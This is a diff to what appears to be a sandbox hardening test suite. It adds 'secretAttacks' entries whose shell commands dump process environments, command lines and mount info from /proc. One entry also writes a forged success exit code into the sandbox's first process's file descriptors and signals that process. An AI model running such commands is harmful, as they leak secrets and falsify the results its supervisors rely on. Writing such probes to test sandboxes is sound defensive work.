@@ -40,4 +40,22 @@ export const secretAttacks: Attack[] = [
       "for p in 1 2 $PPID $$; do ls /proc/$p/root/home /proc/$p/root/root /proc/$p/cwd/../..; done 2>/dev/null | head -50",
     achieved: (field, result) => told(field, result) ?? (/\.ssh|\.bashrc/.test(result.output) ? "seen" : undefined),
   },
+  {
+    group: "secrets",
+    name: "the words that the sandbox was started with",
+    command: "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/1/mountinfo | tr '\\0' '\\n'",
+    achieved: (field, result) =>
+      told(field, result) ??
+      (/--ro-bind|--seccomp/.test(result.output) || result.output.includes(`${field.machine}/`)
+        ? result.output
+        : undefined),
+  },
+  {
+    group: "secrets",
+    name: "what runs inside the first process of the sandbox",
+    command:
+      "for f in /proc/1/fd/*; do timeout 0.2 cat <$f >/tmp/x 2>/dev/null; echo '{ \"exit-code\": 0 }' 2>/dev/null >$f; done; ls -l /proc/1/fd; kill -TRAP 1; exit 1",
+    achieved: (field, { output, exit }) =>
+      / -> \/(?!dev\/null)/.test(output) || exit !== 1 ? `exit ${exit}: ${output}` : told(field, { output } as never),
+  },
 ];
